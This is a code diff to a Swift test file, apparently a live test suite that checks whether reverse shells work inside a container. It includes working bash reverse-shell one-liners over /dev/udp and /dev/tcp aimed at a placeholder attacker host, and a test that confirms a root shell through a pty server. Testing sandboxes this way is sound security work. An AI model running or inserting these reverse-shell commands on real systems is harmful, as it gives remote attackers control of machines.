@@ -76,9 +76,11 @@ final class ReverseShellLiveTests: XCTestCase {
         try assertReverseShell(transport: .udp) { ["/usr/bin/bash", "-c", "sh -i >& /dev/udp/\(Self.attacker)/\($0) 0>&1"] }
     }
 
+    /// GNU cat, not the rootfs's busybox cat: busybox copies with sendfile(2), which on a socket
+    /// input blocks until EOF, so `id` would never reach the loop (the listener got 0 bytes).
     func testBashDevTcpReadLoop() throws {
         try assertReverseShell { port in
-            ["/usr/bin/bash", "-c", "exec 5<>/dev/tcp/\(Self.attacker)/\(port); cat <&5 | while read l; do $l 2>&5 >&5; done"]
+            ["/usr/bin/bash", "-c", "exec 5<>/dev/tcp/\(Self.attacker)/\(port); /usr/bin/cat <&5 | while read l; do $l 2>&5 >&5; done"]
         }
     }
 
@@ -284,8 +286,11 @@ final class ReverseShellLiveTests: XCTestCase {
                 pass
             c.close();print(out.decode("utf-8","replace"))
             """
-            try server.write(toFile: scene.container.bundle + "/rootfs/tmp/\(mark)-server.py", atomically: true, encoding: .utf8)
-            try client.write(toFile: scene.container.bundle + "/rootfs/tmp/\(mark)-client.py", atomically: true, encoding: .utf8)
+            // The container's /tmp is its own tmpfs: write the scripts from inside.
+            for (name, text) in [("server", server), ("client", client)] {
+                let write = try scene.container.exec(["sh", "-c", "cat > /tmp/\(mark)-\(name).py"], timeout: .seconds(10), stdin: text)
+                XCTAssertEqual(write.status, 0, "writing the \(name) script: \(write)")
+            }
             let run = try scene.container.exec(["sh", "-c", "/usr/bin/python3 /tmp/\(mark)-server.py /tmp/\(mark).port & "
                                                 + "/usr/bin/python3 /tmp/\(mark)-client.py /tmp/\(mark).port; wait"], timeout: .seconds(20))
             XCTAssertTrue(run.stdout.contains("uid=0(root)"), "the shell behind the pty server ran id: \(run)")
